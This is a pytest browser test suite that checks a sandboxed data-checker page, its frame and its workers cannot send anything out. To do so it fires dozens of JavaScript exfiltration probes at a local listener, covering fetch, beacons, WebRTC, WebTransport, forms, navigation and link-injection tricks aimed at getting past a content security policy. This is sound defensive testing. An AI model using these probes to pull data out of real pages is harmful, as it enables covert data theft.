"""Whoever got hold of the checker page's own frame, or of its worker, still could not send anything anywhere."""

import re
import socket
import threading
import time

import pytest

from pipelines.checker.build import SANDBOX
from tests.browser.checker import opened
from tests.browser.test_checker_prepares import CASES, lay

# Tried one after the other in the frame that sees the file; `to` is an address that listens.
IN_THE_FRAME = {
    "fetch": "fetch(to + '/x', {mode: 'no-cors'})",
    "a request of old": "const r = new XMLHttpRequest(); r.open('POST', to); r.send('x')",
    "a beacon": "navigator.sendBeacon(to, 'x')",
    "a picture": "new Image().src = to",
    "a picture on the page": "document.body.insertAdjacentHTML('beforeend', `<img src=${to}><svg><image href=${to} /></svg>`)",
    "a form": "const f = made('form'); f.action = to; f.method = 'post'; f.submit()",
    "a form in a new window": "const f = made('form'); f.action = to; f.target = '_blank'; f.submit()",
    "a window": "window.open(to)",
    "the outer page": "top.location = to",
    "the outer page, by its address": "parent.location.href = to",
    "a link to a new window": "const a = made('a'); a.href = to; a.target = '_blank'; a.click()",
    "a link over the outer page": "const a = made('a'); a.href = to; a.target = '_top'; a.click()",
    "a ping": "const a = made('a'); a.href = '#x'; a.ping = to; a.click()",
    "a socket": "new WebSocket(to.replace('http', 'ws'))",
    "a stream": "new EventSource(to)",
    "a call": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:${by_udp}`}]}); "
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "a call from a frame within": "const i = made('iframe'); i.srcdoc = '<p>'; setTimeout(() => { "
    "const c = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:${by_udp}`}]}); "
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) }, 300)",
    "a transport": "new WebTransport(`https://${by_udp}/`)",
    "a style sheet": "const l = made('link'); l.rel = 'stylesheet'; l.href = to",
    "what may be wanted later": "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) "
    "{ const l = made('link'); l.rel = rel; l.as = 'image'; l.href = to }",
    "a script": "const s = made('script'); s.src = to",
    "a script within": "const s = made('script'); s.textContent = `fetch('${to}')`",
    "rules of what to load": "const s = made('script'); s.type = 'speculationrules'; "
    "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [to], eagerness: 'immediate'}]})",
    "a style": "made('style').textContent = "
    "`@import url(${to}); body { background: url(${to}); } @font-face { font-family: x; src: url(${to}) }`",
    "a style of the element": "document.body.style.backgroundImage = `url(${to})`",
    "a module": "import(to)",
    "a frame": "made('iframe').src = to",
    "a frame of its own text": "made('iframe').srcdoc = "
    "`<img src=${to}><meta http-equiv=refresh content='0;url=${to}'><script>fetch('${to}')</script>`",
    "an object": "made('object').data = to",
    "a thing embedded": "made('embed').src = to",
    "a film": "const v = made('video'); v.src = to; v.autoplay = true",
    "a worker from there": "new Worker(to)",
    "a shared worker": "new SharedWorker(to)",
    "a service worker": "navigator.serviceWorker.register(to)",
}
# Each would open a connection and say nothing over it; but what it is opened to can tell something too.
LINK = "<link rel=preconnect href=${to}>"
XHTML = "'http://www.w3.org/1999/xhtml'"
GONE = "l.rel = 'preconnect'; l.href = to; document.body.append(l)"
BY_CONNECTING = {
    "a link": f"const l = document.createElement('link'); {GONE}",
    "a link with its namespace": f"const l = document.createElementNS({XHTML}, 'x:link'); {GONE}",
    "a link whose name changes": f"let n = 0; const l = document.createElement({{toString: () => n++ ? 'link' : 'p'}}); {GONE}",
    "a link of a fresh document": f"const l = document.implementation.createHTMLDocument().createElement('LINK'); {GONE}",
    "a link that is a document": f"const l = document.implementation.createDocument({XHTML}, 'link').documentElement; {GONE}",
    "a link of its own kind": "customElements.define('a-b', class extends HTMLLinkElement {}, {extends: 'link'}); "
    f"const l = new (customElements.get('a-b'))(); {GONE}",
    "a link with other tools": "String.prototype.endsWith = () => false; String.prototype.toLowerCase = () => 'p'; "
    f"Reflect.apply = () => 'p'; const l = document.createElement('link'); {GONE}",
    "a link in a frame within": "const i = made('iframe'); const l = i.contentDocument.createElement('link'); "
    "l.rel = 'preconnect'; l.href = to; i.contentDocument.head.append(l)",
    "text": f"document.body.innerHTML += `{LINK}`",
    "text beside": f"document.body.insertAdjacentHTML('beforeend', `{LINK}`)",
    "text that is parsed": f"document.head.append(new DOMParser().parseFromString(`{LINK}`, 'text/html').querySelector('link'))",
    "text in a range": f"document.head.append(document.createRange().createContextualFragment(`{LINK}`))",
    "text of a template": f"const t = made('template'); t.innerHTML = `{LINK}`; document.head.append(t.content)",
    "text unsafe": f"document.body.setHTMLUnsafe(`{LINK}`)",
    "text in a frame within": f"made('iframe').srcdoc = `{LINK}`",
    "text in a frame's attribute": f"made('iframe').setAttribute('srcdoc', `{LINK}`)",
    "text by command": f"document.body.contentEditable = true; document.body.focus(); document.execCommand('insertHTML', false, `{LINK}`)",
    "text of another's making": "const p = trustedTypes.createPolicy('safecount-worker', {createHTML: (t) => t}); "
    f"document.body.insertAdjacentHTML('beforeend', p.createHTML(`{LINK}`))",
    "text that is written": f"document.write(`{LINK}`)",
}
IN_A_WORKER = {
    "fetch": "fetch(to, {mode: 'no-cors'})",
    "the network's own fetch": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))",
    "a request of old": "const r = new XMLHttpRequest(); r.open('POST', to, false); r.send('x')",
    "a script": "importScripts(to)",
    "a module": "import(to)",
    "a socket": "new WebSocket(to.replace('http', 'ws'))",
    "a stream": "new EventSource(to)",
    "a transport": "new WebTransport(`https://${by_udp}/`)",
    "a worker from there": "new Worker(to)",
}
# These end in a blocked frame: nothing is sent, and the outer page stays where it is.
BY_LEAVING = {
    "its own address": "location = to",
    "a link": "const a = made('a'); a.href = to; a.click()",
    "a link that saves": "const a = made('a'); a.href = to; a.download = 'x.csv'; a.click()",
    "a refresh": "const m = made('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${to}`",
    "the way of newer browsers": "navigation.navigate(to)",
    "a page of its own making": "location = URL.createObjectURL(new Blob([`<link rel=preconnect href=${to}>`], {type: 'text/html'}))",
}
STUN = b"\x00\x01\x00\x00"  # how a call begins
MADE = "const made = (tag) => document.body.appendChild(document.createElement(tag));"
# Later, and not in the debugger's own call, which browsers grant more than a page.
RUN = "([to, by_udp, text]) => { setTimeout(() => { %s try { %s } catch (error) {} }, 0) }"


class Listener:
    """A place on this machine to which something could be sent; knows what came."""

    def __init__(self) -> None:
        self.came: list[bytes] = []
        self.connected = 0
        self._tcp, self._udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for each in (self._tcp, self._udp):
            each.bind(("127.0.0.1", 0))
        self._tcp.listen(100)
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self._tcp.getsockname()[1]}"

    @property
    def by_udp(self) -> str:
        return f"127.0.0.1:{self._udp.getsockname()[1]}"

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()

    def _accept(self) -> None:
        try:
            while True:
                connection = self._tcp.accept()[0]
                self.connected += 1
                threading.Thread(target=self._read, args=(connection,), daemon=True).start()
        except OSError:
            return

    def _read(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            try:
                said = connection.recv(200)
            except OSError:
                return
            if said:
                self.came.append(said)

    def _receive(self) -> None:
        try:
            while True:
                self.came.append(self._udp.recvfrom(200)[0])
        except OSError:
            return


@pytest.fixture
def listener():
    listener = Listener()
    yield listener
    listener.close()


def tried(place, listener, probe):
    place.evaluate(RUN % (MADE if hasattr(place, "locator") else "", probe), [listener.address, listener.by_udp, ""])


@pytest.fixture(scope="module")
def unprotected(checker):
    """The same page without its policy and sandbox: what it would be if it had neither."""
    text = checker.read_text(encoding="utf-8")
    path = checker.with_name("unprotected.html")
    path.write_text(
        re.sub("<meta http-equiv=.Content-Security-Policy.*?>", "", text, count=1).replace(f'sandbox="{SANDBOX}"', "", 1), "utf-8"
    )
    return path


def heard(listener, wanted, seconds=20):
    """Whether as many different things have come, before long."""
    until = time.monotonic() + seconds
    while time.monotonic() < until and not wanted <= {said[:4] for said in listener.came}:
        time.sleep(0.1)
    return wanted <= {said[:4] for said in listener.came}


def test_without_policy_and_sandbox_the_same_frame_would_be_heard(browser, unprotected, listener):
    with opened(browser, unprotected) as desk:
        # Its script took the ways of calls and of frames away; a frame made of text has them again.
        desk.frame.evaluate("document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>')")
        within = IN_THE_FRAME["a call from a frame within"].replace("made('iframe')", "document.querySelector('iframe')")
        for probe in (*(IN_THE_FRAME[name] for name in ("fetch", "a beacon", "a picture", "a socket")), within):
            tried(desk.frame, listener, probe)
        assert heard(listener, {b"GET ", b"POST", STUN}) and listener.connected


def test_without_policy_text_would_become_a_link(browser, unprotected, listener):
    with opened(browser, unprotected) as desk:
        tried(desk.frame, listener, BY_CONNECTING["text beside"])
        desk.at("link").wait_for(state="attached", timeout=5000)


@pytest.fixture(scope="module")
def used(browser, checker, tmp_path_factory):
    """The page with both tabs in use: an export and a key lie there, and what would leave is shown."""
    folder = tmp_path_factory.mktemp("laid")
    case = CASES["rows that may be linked"]
    with opened(browser, checker) as desk:
        desk.wait_until_ready()
        desk.at("#tab-prepare").click()
        lay(desk, case, folder)
        assert case.says in "".join(desk.show_what_would_leave())
        yield desk


def test_nothing_that_a_worker_tries_goes_out(used, listener):
    while len(used.page.workers) < 2:  # who saw the key was sent away, and the next one is on the way
        used.page.wait_for_event("worker", timeout=20_000)
    for worker in used.page.workers:
        for probe in IN_A_WORKER.values():
            tried(worker, listener, probe)
    used.page.wait_for_timeout(1500)
    assert (listener.came, listener.connected) == ([], 0)
    assert used.at("#lines").is_visible()


def test_nothing_that_the_frame_tries_goes_out_and_the_page_is_still_there(used, checker, listener):
    for probe in (*IN_THE_FRAME.values(), *BY_CONNECTING.values()):
        tried(used.frame, listener, probe)
        used.page.wait_for_timeout(30)
    used.page.wait_for_timeout(2000)
    assert (listener.came, listener.connected) == ([], 0)
    assert used.at("link, iframe").count() == 0
    assert used.page.url == checker.as_uri() and len(used.page.context.pages) == 1
    assert used.at("#lines").is_visible()


def test_a_frame_that_leaves_reaches_nothing(browser, checker, listener):
    for probe in BY_LEAVING.values():
        with opened(browser, checker) as desk:
            tried(desk.frame, listener, probe)
            desk.page.wait_for_timeout(400)
            assert desk.page.url == checker.as_uri() and len(desk.page.context.pages) == 1
    time.sleep(0.5)
    assert listener.came == [], "a connection may be opened; nothing is said over it"
